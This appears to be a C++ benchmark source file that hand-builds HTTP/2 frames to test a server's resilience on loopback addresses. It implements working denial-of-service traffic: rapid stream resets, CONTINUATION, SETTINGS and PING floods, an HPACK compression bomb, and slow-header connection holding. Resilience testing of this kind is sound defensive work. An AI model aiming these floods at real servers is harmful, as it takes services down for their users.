// Frames by hand, and sockets that push them.
// SPDX-License-Identifier: Apache-2.0
#include "tool/bench/http/attackers.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>

#include <algorithm>
#include <array>
#include <cerrno>
#include <string_view>

#include "io/descriptor.h"

namespace madang::bench {
namespace {

constexpr std::string_view kPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
constexpr int kFramesAtOnce = 100;
constexpr int kHeldConnections = 500;
// Between looks at connections that are only held, some at a time: the honest clients' machine has
// to do this work too.
constexpr int kPauseMilliseconds = 20;
constexpr std::size_t kLooksAtOnce = 20;

// RFC 9113 §6 and its flags.
enum Type : std::uint8_t {
    kHeaders = 1,
    kResetStream = 3,
    kSettings = 4,
    kPing = 6,
    kContinuation = 9
};
constexpr std::uint8_t kEndStream = 1;
constexpr std::uint8_t kEndHeaders = 4;

std::string big_endian(std::uint32_t number, std::size_t bytes) {
    std::string text(bytes, '\0');
    for (std::size_t i = bytes; i > 0; --i, number >>= 8U) text[i - 1] = static_cast<char>(number);
    return text;
}

std::string frame(Type type, std::uint8_t flags, std::uint32_t stream, std::string_view payload) {
    std::string text = big_endian(static_cast<std::uint32_t>(payload.size()), 3);
    text.push_back(static_cast<char>(type));
    text.push_back(static_cast<char>(flags));
    return text.append(big_endian(stream, 4)).append(payload);
}

// A short string, and a field that is not indexed (RFC 7541 §5.2, §6.2.2).
std::string string_of(std::string_view text) {
    return std::string(1, static_cast<char>(text.size())).append(text);
}
std::string literal(std::string_view name, std::string_view value) {
    return std::string(1, '\0').append(string_of(name)).append(string_of(value));
}

std::string request_block() {
    return literal(":method", "GET") + literal(":scheme", "http") +
           literal(":authority", "localhost") + literal(":path", "/file");
}

std::string opening() {
    return std::string(kPreface) + frame(kSettings, 0, 0, "");
}

// Streams of one connection are used once, so this one goes far before it must connect again.
std::string resets() {
    std::string text;
    for (std::uint32_t stream = 1; stream < 2 * 2000; stream += 2) {
        text += frame(kHeaders, kEndHeaders | kEndStream, stream, request_block());
        text += frame(kResetStream, 0, stream, big_endian(8, 4));
    }
    return text;
}

std::string many(const std::string& one) {
    std::string text;
    for (int i = 0; i < kFramesAtOnce; ++i) text += one;
    return text;
}

// An entry of 3,900 bytes, then heads that name it thousands of times (RFC 7541 §7.3).
std::string bomb() {
    std::string block = request_block() + '\x40' + string_of("x-bomb");
    block += "\x7f\xbd\x1d";  // the length 3,900 (§5.1)
    block.append(3900, 'b');
    std::string text = frame(kHeaders, kEndHeaders | kEndStream, 1, block);
    for (std::uint32_t stream = 3; stream < 50; stream += 2) {
        text += frame(kHeaders, kEndHeaders | kEndStream, stream,
                      request_block() + std::string(15'000, '\xbe'));
    }
    return text;
}

const sockaddr* generic(const sockaddr_in& address) {
    return reinterpret_cast<const sockaddr*>(&address);
}

// From 127.0.0.`host`.
io::Descriptor connect_to(std::uint16_t port, std::uint8_t host) {
    io::Descriptor socket(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
    if (!socket) return socket;
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(port);
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    sockaddr_in source{};
    source.sin_family = AF_INET;
    source.sin_addr.s_addr = htonl((INADDR_LOOPBACK & ~0xffU) | host);
    if (::bind(socket.get(), generic(source), sizeof source) != 0 ||
        ::connect(socket.get(), generic(address), sizeof address) != 0) {
        socket.reset();
    }
    return socket;
}

// Returns whether the server still listens.
bool say(const io::Descriptor& socket, std::string_view text) {
    while (!text.empty()) {
        const ssize_t count = ::send(socket.get(), text.data(), text.size(), MSG_NOSIGNAL);
        if (count <= 0) return false;
        text.remove_prefix(static_cast<std::size_t>(count));
    }
    // What it says is thrown away, so that only its patience is tried.
    std::array<char, 65'536> unread;
    for (;;) {
        const ssize_t count = ::recv(socket.get(), unread.data(), unread.size(), MSG_DONTWAIT);
        if (count == 0 || (count < 0 && errno != EAGAIN)) return false;
        if (count < 0) return true;
    }
}

}  // namespace

std::vector<Attack> known_attacks() {
    const std::string settings = frame(kSettings, 0, 0, std::string("\0\4\0\1\0\0", 6));
    const std::string head = frame(kHeaders, kEndStream, 1, request_block());
    return {
        {"rapid resets", 2, opening() + resets(), "", 1},
        {"CONTINUATION", 3, opening() + head,
         many(frame(kContinuation, 0, 1, literal("x-more", std::string(100, 'm')))), 1},
        {"SETTINGS", 4, opening(), many(settings), 1},
        {"PING", 5, opening(), many(frame(kPing, 0, 0, "12345678")), 1},
        {"a bomb of HPACK", 6, opening() + bomb(), "", 1},
        {"slow heads", 7, "GET / HTTP/1.1\r\nhost: loc", "", kHeldConnections},
        {"slow heads of HTTP/2", 8, opening() + head, "", kHeldConnections},
    };
}

Attackers::Attackers(const Attack& attack, std::uint16_t port)
    : thread_([this, attack, port] { run(attack, port); }) {}

Attackers::~Attackers() {
    is_over_ = true;
    thread_.join();
}

void Attackers::run(const Attack& attack, std::uint16_t port) {
    std::vector<io::Descriptor> sockets(static_cast<std::size_t>(attack.connections));
    for (std::size_t turn = 0; !is_over_; ++turn) {
        io::Descriptor& socket = sockets[turn % sockets.size()];
        bool goes_on = true;
        if (!socket) {
            socket = connect_to(port, attack.host);
            goes_on = socket && say(socket, attack.opening);
        }
        if (goes_on) goes_on = say(socket, attack.repeated);
        if (!goes_on) {
            socket.reset();
            ++ended_;
        }
        const bool pauses = turn % std::min(kLooksAtOnce, sockets.size()) == 0;
        if (pauses && attack.repeated.empty()) ::poll(nullptr, 0, kPauseMilliseconds);
    }
}

}  // namespace madang::bench
